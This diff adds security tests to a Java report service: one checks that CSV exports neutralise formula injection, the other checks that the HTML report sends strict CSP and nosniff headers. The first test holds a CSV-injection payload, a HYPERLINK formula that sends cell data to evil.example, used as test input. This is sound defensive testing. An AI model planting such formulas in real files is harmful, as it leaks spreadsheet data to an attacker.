@@ -117,6 +117,29 @@ class ReportTest {
     }
 
     @Test
+    void l1_aRecommendationThatStartsLikeAFormulaIsTextInTheCsv() throws Exception {
+        UUID dfr = ReportData.organization();
+        String formula = "=HYPERLINK(\"https://evil.example/?\"&B2,\"open\")";
+        Map<String, Object> body = Fixtures.set(dfr, 2023);
+        body.put("recommendations", List.of(Map.of("number", 1, "textAr", "العمل على كسب المزيد من الدعم", "textEn", formula)));
+        post(TestTokens.editor(dfr), "/recommendation-sets", body).then().statusCode(201);
+        String csv = given().auth().oauth2(TestTokens.reader(dfr)).accept("text/csv").get("/reports/" + dfr + "/2023")
+                .then().statusCode(200).extract().asString();
+        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new StringReader(csv)).getRecords();
+        assertEquals("'" + formula, rows.get(0).get("text_en"));
+    }
+
+    @Test
+    void l2_thePrintableReportLoadsNothingAndCannotBeFramed() {
+        UUID dfr = ReportData.organization();
+        ReportData.workPlan(dfr);
+        given().auth().oauth2(TestTokens.reader(dfr)).accept("text/html").get("/reports/" + dfr + "/2023")
+                .then().statusCode(200).header("X-Content-Type-Options", "nosniff")
+                .header("Content-Security-Policy", "default-src 'none'; style-src 'unsafe-inline'; frame-ancestors 'none'");
+    }
+
+    @Test
     void htmlIsABilingualRightToLeftPage() throws Exception {
         UUID dfr = ReportData.organization();
         Response set = ReportData.workPlan(dfr);
